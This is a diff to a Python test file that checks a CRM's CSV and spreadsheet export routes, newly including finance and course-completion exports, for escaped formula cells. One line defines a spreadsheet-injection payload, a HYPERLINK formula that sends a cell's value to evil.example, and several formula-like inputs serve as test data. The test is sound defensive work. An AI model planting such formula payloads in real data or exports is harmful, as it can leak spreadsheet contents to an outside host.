@@ -8,9 +8,11 @@ from __future__ import annotations
 
 import csv
 import io
+import uuid
 import zipfile
 from collections.abc import Callable
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -23,7 +25,7 @@ from crm.application.imports import Importer, ImportRequest, import_file
 from crm.application.users import Role
 from projections.engine.runner import wait_until_caught_up
 from tests.api.web_client import new_user, page_csrf, sign_in
-from tests.factories import RoleHeaders, record, register, unique
+from tests.factories import RoleHeaders, provenance, record, register, unique
 from tests.pages import endpoints
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -83,6 +85,24 @@ def test_every_export_route_neutralises_formula_cells(
         services.crm, customer, now - timedelta(hours=1), "consent_given", notes=None,
         purpose="email_marketing", lawful_basis="consent", evidence="@form",
     )  # fmt: skip
+    # An invoice whose number would be a formula, dated on a day of its own.
+    invoice_day = date(1980, 1, 1) + timedelta(days=uuid.uuid4().int % 3000)
+    record(
+        services.crm, customer, now - timedelta(hours=1), "purchase_made", notes=None,
+        purchase_id="-p", offering="@offer", offering_type="coaching", amount=Decimal(10),
+        invoice_reference=None,
+    )  # fmt: skip
+    services.crm.invoice_purchase(
+        customer, provenance(now), purchase_id="-p", invoice_number="=1+1",
+        invoice_date=invoice_day, due_date=invoice_day, amount=Decimal(10),
+    )  # fmt: skip
+    # A completion whose course would be a formula, by a person on an organisation's staff.
+    record(
+        services.crm, customer, now - timedelta(minutes=50), "course_completed", notes=None,
+        course="=course", credits=Decimal(5), grade="+5",
+    )  # fmt: skip
+    employer = register(services.crm, "organisation", at=now - timedelta(days=2))
+    services.crm.start_affiliation(customer, provenance(now - timedelta(days=1)), employer, None)
     wait_until_caught_up(services.projector, services.views.refresh())
     api = TestClient(app)
     marketing, dpo = as_role[Role.MARKETING], as_role[Role.DPO]
@@ -105,6 +125,8 @@ def test_every_export_route_neutralises_formula_cells(
     assert hostile_import.invalid == 1
     manager = sign_in(app, new_user(services, Role.ACCOUNT_MANAGER))
     segment_path = {"segment_id": segment["segment_id"], "import_id": hostile_import.import_id}
+    accountant = sign_in(app, new_user(services, Role.FINANCE))
+    period = {"start": str(invoice_day), "end": str(invoice_day)}
 
     cases: dict[tuple[str, str], list[Callable[[], tuple[bytes, str]]]] = {}
 
@@ -137,6 +159,13 @@ def test_every_export_route_neutralises_formula_cells(
          params={"customer": str(customer), "format": "csv"})  # fmt: skip
     case("GET", "/privacy/consent-audit.csv", api, headers=dpo)
     case("GET", "/ui/imports/{import_id}/errors.csv", manager)
+    case("GET", "/finance/export.csv", api, params=period, headers=as_role[Role.FINANCE])
+    case("GET", "/ui/finance/export.csv", accountant, params=period)
+    am = as_role[Role.ACCOUNT_MANAGER]
+    case("GET", "/completions/transcript.csv", api, params={"person": str(customer)}, headers=am)
+    case("GET", "/completions/staff-report.csv", api, params={"organisation": str(employer)},
+         headers=am)  # fmt: skip
+    case("GET", "/ui/completions/report.csv", manager, params={"person": str(customer)})
 
     assert export_routes(app) == set(cases), "give every export route a case here"
     for (method, path), calls in cases.items():
@@ -145,8 +174,13 @@ def test_every_export_route_neutralises_formula_cells(
             cells = cells_of(content, content_type)
             assert cells, f"{method} {path} returned no cells"
             assert not [c for c in cells if c.startswith(FORMULA_STARTS)], f"{method} {path}"
-            if "segment" in path:
+            if "segment" in path or "finance" in path:
                 assert "'" + HOSTILE_NAME in cells, f"{method} {path}"
+            if "finance" in path:
+                assert "'=1+1" in cells, f"{method} {path}"
+            if "completions" in path:
+                assert {"'=course", "'+5", "'" + HOSTILE_NAME} <= set(cells), f"{method} {path}"
     marketer.close()
     officer.close()
+    accountant.close()
     manager.close()
